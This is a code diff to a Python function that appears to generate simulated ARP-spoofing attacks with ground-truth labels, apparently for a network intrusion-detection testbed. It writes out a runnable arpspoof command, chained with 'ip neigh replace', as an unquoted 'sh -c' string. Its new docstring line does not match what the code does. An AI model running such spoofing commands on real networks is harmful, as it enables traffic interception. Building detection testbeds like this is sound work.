@@ -279,6 +279,7 @@ def arp_spoof(scene: Scene) -> Attack:
     """arpspoof tells one device that another has the attacker's MAC: no IP flow, what the ground truth calls outside.
 
     arpspoof repeats its lie every two seconds and takes it back when it is interrupted, which needs some seconds more.
+    It would ask for the MACs of both by a datagram, so that the two are told to its kernel first.
     """
     attacker = scene.rng.choice(scene.attackers_inside)
     victim = scene.device(attacker=attacker)
@@ -286,8 +287,9 @@ def arp_spoof(scene: Scene) -> Attack:
     while claimed.name == victim.name:
         claimed = scene.device(attacker=attacker)
     length_s = int(scene.between(6, 30))
-    both_ways = ("-r",) if scene.rng.random() < 0.4 else ()
-    argv = ("timeout", "-s", "INT", str(length_s), "arpspoof", "-i", "eth0", "-c", "host", *both_ways)
+    both_ways = "-r " if scene.rng.random() < 0.4 else ""
+    known = "; ".join(f"ip neigh replace {host.address} lladdr {host.mac} dev eth0" for host in (victim, claimed))
+    lie = f"timeout -s INT {length_s} arpspoof -i eth0 -c host {both_ways}-t {victim.address} {claimed.address}"
     return Attack(
         technique="arp_spoof",
         label="arp_spoof",
@@ -296,7 +298,7 @@ def arp_spoof(scene: Scene) -> Attack:
         victim=victim.name,
         starts_s=0.0,
         limit_s=length_s + 12.0,
-        argv=(*argv, "-t", victim.address, claimed.address),
+        argv=("sh", "-c", f"{known}; exec {lie}"),
         proto="arp",
         spoofed=True,
     )
